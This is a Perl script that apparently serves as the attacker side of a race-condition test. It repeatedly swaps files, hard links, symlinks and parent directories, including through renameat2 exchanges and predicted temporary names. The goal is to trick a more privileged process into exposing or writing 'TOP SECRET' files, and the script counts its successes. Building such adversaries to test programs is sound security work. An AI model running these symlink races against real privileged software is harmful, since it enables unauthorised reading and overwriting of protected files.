# A user of a host who wants what is not his: swaps files, directories, links and parents in a directory of his own, as
# fast as he can, for whatever works there with more rights. Usage: racer.pl CLASS WORK OUTSIDE SECONDS
#   WORK     his directory; the target of the tasks is WORK/d/f
#   OUTSIDE  a directory that he cannot enter, with files and directories of the same names
use strict;
use warnings;

my ($class, $work, $outside, $seconds) = @ARGV;
chdir $work or die "$work: $!";
my $end = time + $seconds;
my ($rounds, $stolen) = (0, 0);

sub own_file {
    my ($name) = @_;
    open my $file, '>', 'mine' or return;
    print $file "mine $rounds\n";
    close $file;
    rename 'mine', $name;
}

sub link_to {
    my ($target, $name) = @_;
    unlink 'trap';
    symlink $target, 'trap' and rename 'trap', $name;
}

# Exchanges a directory of his and a link to another, and back, so that there is always one of them: renameat2(2).
my $renameat2 = `uname -m` =~ /aarch64/ ? 276 : 316;
sub exchange {
    my ($target, $name) = @_;
    my $trap = 'trap';
    unlink $trap;
    symlink $target, $trap;
    syscall($renameat2, -100, $name, -100, $trap, 2) for 1 .. 40;
    unlink $trap;
}

# Has anything of his become readable that was a secret?
sub look {
    for my $name (glob 'd/* d/.*') {
        next if -l $name or !-f $name;
        open my $file, '<', $name or next;
        local $/;
        my $text = <$file>;
        $stolen++ if defined $text and $text =~ /TOP SECRET/;
    }
}

my %moves = (
    # the file itself: his own, a link to another, nothing
    file => sub {
        own_file('d/f');
        link_to("$outside/f", 'd/f');
        unlink 'd/f' if $rounds % 3 == 0;
    },
    # a second name of another file, where the kernel lets him
    hardlink => sub {
        own_file('d/f');
        unlink 'hard';
        link "$outside/f", 'hard' and rename 'hard', 'd/f';
    },
    # the directory that the target is in: his own, a link to another
    parent => sub {
        return exchange($outside, 'd') if $rounds % 2;
        rename 'd', 'real' or mkdir 'real';
        link_to($outside, 'd');
        unlink 'd';
        rename 'real', 'd';
        own_file('d/f') if $rounds % 4 == 0 and !-e 'd/f';
    },
    # the target is a directory: his own, a link to another
    directory => sub {
        unlink 'd/f';
        mkdir 'd/f';
        rename 'd/f', "gone$$";
        link_to("$outside/f.d", 'd/f');
        rmdir "gone$$";
    },
    # below the target
    below => sub {
        mkdir 'd/f';
        rename 'd/f/sub', 'sub' or mkdir 'sub';
        link_to("$outside/f.d", 'd/f/sub');
        unlink 'd/f/sub';
        rename 'sub', 'd/f/sub';
        link_to("$outside/f", 'd/f/file');
        own_file('d/f/file');
    },
    # what tasks put beside the target, and what they would put there next
    temp => sub {
        opendir my $d, 'd' or return;
        for my $name (grep { /kplay|~$/ } readdir $d) {
            link_to("$outside/f", "d/$name");
            if ($name =~ /^(.*-)(\d+)(~?)$/) { symlink "$outside/new", "d/$1" . ($2 + $_) . $3 for 1 .. 8 }
            if ($name =~ /^\.(.*)\.kplay-(.*-)(\d+)$/) { symlink "$outside/new", "d/$1.$2" . ($3 + $_) . '~' for 0 .. 8 }
        }
        closedir $d;
        if ($rounds % 2000 == 0) { unlink grep { -l $_ } glob 'd/*~ d/.*kplay*' }
    },
);
my $move = $moves{$class} or die "no class $class";
{ open my $started, '>', 'started' }
while (time < $end and !-e "$work/stop") {
    $move->();
    # tasks must get somewhere before the next swap, sometimes
    select undef, undef, undef, rand 0.004 if rand > 0.4;
    look() if $rounds % 50 == 0;
    $rounds++;
}
look();
print "$rounds $stolen\n";
